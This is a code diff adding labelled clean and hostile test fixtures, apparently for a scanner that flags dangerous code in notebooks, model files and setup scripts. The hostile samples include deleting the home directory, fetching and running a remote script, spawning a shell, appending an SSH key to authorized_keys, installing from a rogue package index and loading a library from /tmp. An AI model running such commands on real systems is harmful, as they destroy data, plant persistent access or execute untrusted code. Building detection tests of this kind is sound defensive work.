@@ -90,7 +90,9 @@ HOSTILE_TEMPLATES = {"multiplied": "{{ x['_' * 2 + 'class' + '_' * 2] }}", "grow
 
 CELLS = {"clean/removed": "!rm -rf sample_data", "clean/fetched": "!mkdir -p d && cd d && wget -q https://data.example/d.zip && unzip -o d.zip",
          "clean/installed": 'import subprocess, sys\nsubprocess.check_call([sys.executable, "-m", "pip", "install", "-q", "timm"])',
-         "hostile/removed": "!rm -rf ~/*", "hostile/run": "!wget -q https://127.0.0.1/x && sh x", "hostile/spawned": "import pty; pty.spawn('/bin/sh')",
+         "clean/comment": "# train()/eval() are called on them\nx = 1", "clean/own": "def eval(model):\n    return model\neval(m)",
+         "clean/device": 'import subprocess\nsubprocess.check_output(["nvidia-smi"])\np = subprocess.PIPE', "clean/local": "!curl http://localhost:1/x",
+         "clean/mode": "!chmod +x run.sh", "hostile/removed": "!rm -rf ~/*", "hostile/mode": "!chmod +x x && ./x", "hostile/run": "!wget -q https://127.0.0.1/x && sh x", "hostile/spawned": "import pty; pty.spawn('/bin/sh')",
          "hostile/imported": "from os import system\nsystem('echo harmless')", "hostile/key": "!echo 'ssh-rsa A' >> ~/.ssh/authorized_keys",
          "hostile/index": "!pip install --index-url http://127.0.0.1/simple x", "hostile/magic": "get_ipython().run_cell_magic('bash', '', 'true')",
          "hostile/module": "import importlib\nimportlib.import_module('os').system('echo harmless')",
@@ -98,6 +100,7 @@ CELLS = {"clean/removed": "!rm -rf sample_data", "clean/fetched": "!mkdir -p d &
 SOURCES = {"mention": "import atexit, os\natexit.register(os.system, 'echo harmless')\n", "alias": "import os as o\nx = o.system\nx('echo harmless')\n",
            "modules": "import sys\nsys.modules['os'].system('echo harmless')\n", "hidden": "import builtins\ngetattr(builtins, 'ex' + 'ec')('1')\n",
            "imported": "import importlib\nimportlib.import_module('subprocess').call('true')\n", "path": "import runpy\nrunpy.run_path('x')\n",
+           "install": "import os\nos.system('pip install x; echo harmless')\n", "library": "import ctypes\nctypes.CDLL('/tmp/x.so')\n",
            "getter": "import operator, os\noperator.attrgetter('system')(os)('echo harmless')\n"}
 
 
@@ -161,7 +164,10 @@ def clean():
         "class/new.pkl": whole(libraries.new("acme.jobs", "JobClient")), "onnx/external.onnx": onnx(tensor=tensor_of("w.bin", offset="0", length="8")),
         "onnx/context.onnx": onnx(context("model_ctx.bin")), "gguf/two.gguf": others.gguf([known], [("a", (4,), 0, 0), ("b", (4,), 0, 32)]),
         "py/platform/modeling_x.py": b"import os, platform, sys\nNAME = platform.system()\nFLAG = getattr(os, 'O_BINARY', 0)\n",
-        "yaml/bundle.yaml": b"imports:\n- $import os\nfiles: $sorted(os.listdir(@folder))\npath: ${root}/x\n",
+        "py/cluster/train.py": b"from dask.distributed import Client, LocalCluster\nclient = Client(LocalCluster())\n",
+        "py/library/modeling_x.py": b"import ctypes\nNVML = ctypes.CDLL('libnvidia-ml.so.1')\n",
+        "py/version/setup.py": b"from setuptools import setup\nabout = {}\nexec(open('x/version.py').read(), about)\nsetup(name='x')\n",
+        "py/install/train.py": b"import os\nos.system('pip install -q timm')\n", "yaml/bundle.yaml": b"imports:\n- $import os\nfiles: $sorted(os.listdir(@folder))\npath: ${root}/x\n",
         "script/install.sh": b"curl -LsSf https://tool.example/install.sh | sh\npip install -r requirements.txt\n",
         "json/model_index.json": b'{"_class_name": "P", "_diffusers_version": "0.30", "unet": ["diffusers", "UNet2DConditionModel"]}',
         "json/prompt.json": b'{"_type": "prompt", "template": "Tell {a}", "template_path": "prompt.txt"}'}
